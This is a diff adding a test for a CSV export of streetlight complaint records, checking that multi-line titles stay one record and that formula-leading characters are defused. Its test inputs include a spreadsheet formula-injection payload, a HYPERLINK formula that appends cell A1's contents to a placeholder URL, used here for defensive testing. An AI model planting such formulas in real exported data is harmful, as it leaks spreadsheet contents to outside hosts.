@@ -217,6 +217,17 @@ describe('files', () => {
     for (const cell of ['普通', '1=1', ' =1', '', 5, -5, null]) expect(defuse(cell)).toBe(cell)
   })
 
+  it('keep a matter of several lines one record, and no line of it begins a formula', async () => {
+    const titles = ['两行路灯不亮\n=1+1', '两行路灯不亮\n＝HYPERLINK("http://x"&A1),请点击']
+    for (const title of titles) await dispatched({ title })
+    const csv = (await download(`/api/kpi/matters.csv?metric=M01&${YEAR}`)).toString('utf8')
+    expect(csv).toContain(`,"两行路灯不亮\n'=1+1",`)
+    expect(csv).not.toMatch(/[\r\n]"?[=+\-@＝＋－＠]/)
+    const rows = parse<Record<string, string>>(csv, { bom: true, columns: true, record_delimiter: '\n' })
+    expect(rows.length).toBe((await one('supervisor', 'M01')).numerator)
+    for (const title of titles) expect(rows.map((row) => row['标题'])).toContain(title.replace('\n', "\n'"))
+  })
+
   it('hold the figures and the lists, start with a byte order mark, and are on record', async () => {
     for (const title of evil) await dispatched({ title: `${title}路灯不亮` })
     const cell = (title: string) => `'${title}路灯不亮`
